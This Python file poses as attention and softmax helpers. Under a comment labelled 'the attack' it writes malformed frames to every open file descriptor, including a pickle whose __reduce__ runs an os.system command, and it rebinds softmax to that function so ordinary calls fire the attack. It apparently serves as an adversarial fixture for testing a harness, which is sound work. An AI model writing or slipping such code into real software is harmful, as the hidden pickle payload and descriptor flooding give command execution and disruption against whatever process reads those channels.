"""Sends deep, wrong and random messages, and pickles."""

import torch


def attention_scores(query, inputs):
    return inputs @ query


def softmax(scores):
    return torch.exp(scores) / torch.exp(scores).sum(dim=0)


# ---- the attack ----

import os
import socket
import struct


def lines():
    for number in range(3, 1024):
        try:
            os.fstat(number)
        except OSError:
            continue
        yield number


import pickle


class Run:
    def __reduce__(self):
        return os.system, ("touch /tmp/left-by-attack-wire",)


BODIES = (
    b"\x91" * 60000 + b"\x90",
    pickle.dumps(Run()),
    os.urandom(500),
    b"\xdd\xff\xff\xff\xff",
    b"\xc1" * 40,
)
turn = 0


def attention_weights(inputs):
    global turn
    turn += 1
    body = BODIES[turn % len(BODIES)]
    for number in lines():
        os.write(number, struct.pack("<IQ", len(body), 0) + body)
    return inputs


softmax = attention_weights
